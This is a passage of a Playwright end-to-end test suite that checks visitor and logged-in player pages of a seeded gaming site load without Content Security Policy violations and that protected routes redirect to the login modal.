      ...VISITOR_ROUTES,
      `/news?id=${await firstId(request, SEEDED_SITE, '/api/news/list', 'news_id')}`,
      `/promotions?id=${await firstId(request, SEEDED_SITE, '/api/promotion/list', 'promotion_id')}`,
      // On this template a visitor on a player page goes home, where the login modal opens.
      '/inbox',
    ];
    const landed = await sweep(page, watch, paths);
    await expect(page.getByRole('dialog')).toHaveAttribute('data-modal', 'login');
    await watch.settle();
    expect(watch.findings).toEqual([]);
    expect(landed).toEqual([...paths.slice(0, -1), '/?redirect=%2Finbox']);
    await context.close();
  });

  test('every player page of the demo player, the built-in game and the mini games load without a CSP violation', async ({
    browser,
    request,
  }) => {
    test.slow();
    const { page, watch } = await watchedPage(await englishContext(browser, SEEDED_SITE));
    await logInThroughForm(page, SEEDED_SITE, DEMO.accountId, DEMO.password);
    const paths = [
      ...PLAYER_ROUTES,
      '/',
      `/news?id=${await firstId(request, SEEDED_SITE, '/api/news/list', 'news_id')}`,
      `/promotions?id=${await firstId(request, SEEDED_SITE, '/api/promotion/list', 'promotion_id')}`,
    ];
    const landed = await sweep(page, watch, paths);
    expect(watch.findings).toEqual([]);
    expect(landed).toEqual(paths);
    await page.context().close();
  });
});
